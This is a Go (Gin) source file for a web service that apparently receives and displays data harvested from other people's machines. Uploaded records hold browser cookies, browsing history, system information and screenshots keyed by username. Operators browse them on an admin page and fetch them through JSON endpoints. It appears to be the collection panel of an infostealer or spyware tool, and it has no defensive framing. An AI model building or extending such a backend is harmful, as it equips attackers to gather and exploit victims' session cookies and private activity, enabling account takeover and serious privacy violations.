package record

import (
	"errors"
	"net/http"
	"strconv"

	"github.com/gin-gonic/gin"

	"intake/internal/pkg/response"
)

type Handler struct {
	service *Service
}

func NewHandler(service *Service) *Handler {
	return &Handler{service: service}
}

// Upload handles POST /api/upload. Success body is {"status":"ok","id":N},
// plus a warnings array when any field was coerced or dropped.
func (h *Handler) Upload(c *gin.Context) {
	var req UploadRequest
	if err := c.ShouldBindJSON(&req); err != nil {
		response.Error(c, http.StatusBadRequest, response.CodeBadRequest, "Request body must be valid JSON")
		return
	}

	res, err := h.service.Ingest(c.Request.Context(), req)
	if err != nil {
		_ = c.Error(err)
		response.ErrorWithDetails(c, http.StatusInternalServerError, response.CodeStorage, "Failed to store record", err.Error())
		return
	}

	body := gin.H{"status": "ok", "id": res.ID}
	if len(res.Warnings) > 0 {
		body["warnings"] = res.Warnings
	}
	c.JSON(http.StatusOK, body)
}

// List handles GET /: the admin HTML page of recent records, newest first.
func (h *Handler) List(c *gin.Context) {
	rows, err := h.service.ListRecent(c.Request.Context())
	if err != nil {
		_ = c.Error(err)
		response.ErrorWithDetails(c, http.StatusInternalServerError, response.CodeStorage, "Failed to list records", err.Error())
		return
	}
	c.HTML(http.StatusOK, "records.html", gin.H{"Records": rows})
}

// Detail handles GET /user/:id: the HTML shell for one record. The page
// loads the documents itself via /api/data/:id so large payloads do not ship
// with the shell.
func (h *Handler) Detail(c *gin.Context) {
	id, ok := recordID(c)
	if !ok {
		return
	}

	rec, err := h.service.Get(c.Request.Context(), id)
	if err != nil {
		h.renderGetError(c, err)
		return
	}

	c.HTML(http.StatusOK, "record.html", gin.H{
		"ID":            rec.ID,
		"Username":      rec.Username,
		"Timestamp":     rec.Timestamp,
		"HasScreenshot": len(rec.Screenshot) > 0,
	})
}

// RawData handles GET /api/data/:id: the three documents plus timestamp.
func (h *Handler) RawData(c *gin.Context) {
	id, ok := recordID(c)
	if !ok {
		return
	}

	rec, err := h.service.Get(c.Request.Context(), id)
	if err != nil {
		h.renderGetError(c, err)
		return
	}

	c.JSON(http.StatusOK, gin.H{
		"cookies":     rec.Cookies,
		"history":     rec.History,
		"system_info": rec.SystemInfo,
		"timestamp":   rec.Timestamp,
	})
}

// Screenshot handles GET /screenshot/:id: raw image bytes with a sniffed
// content type.
func (h *Handler) Screenshot(c *gin.Context) {
	id, ok := recordID(c)
	if !ok {
		return
	}

	img, err := h.service.Screenshot(c.Request.Context(), id)
	if err != nil {
		if errors.Is(err, ErrScreenshotNotFound) {
			response.Error(c, http.StatusNotFound, response.CodeNotFound, "Record has no screenshot")
			return
		}
		h.renderGetError(c, err)
		return
	}

	c.Data(http.StatusOK, http.DetectContentType(img), img)
}

// Cleanup handles POST /api/cleanup: runs the retention sweep and reports
// the number of rows removed.
func (h *Handler) Cleanup(c *gin.Context) {
	deleted, err := h.service.Cleanup(c.Request.Context())
	if err != nil {
		_ = c.Error(err)
		response.ErrorWithDetails(c, http.StatusInternalServerError, response.CodeStorage, "Retention sweep failed", err.Error())
		return
	}
	c.JSON(http.StatusOK, gin.H{"status": "ok", "deleted": deleted})
}

func (h *Handler) renderGetError(c *gin.Context, err error) {
	if errors.Is(err, ErrRecordNotFound) {
		response.Error(c, http.StatusNotFound, response.CodeNotFound, "Record not found")
		return
	}
	_ = c.Error(err)
	response.ErrorWithDetails(c, http.StatusInternalServerError, response.CodeStorage, "Failed to load record", err.Error())
}

func recordID(c *gin.Context) (int64, bool) {
	id, err := strconv.ParseInt(c.Param("id"), 10, 64)
	if err != nil || id <= 0 {
		response.Error(c, http.StatusNotFound, response.CodeNotFound, "Record not found")
		return 0, false
	}
	return id, true
}
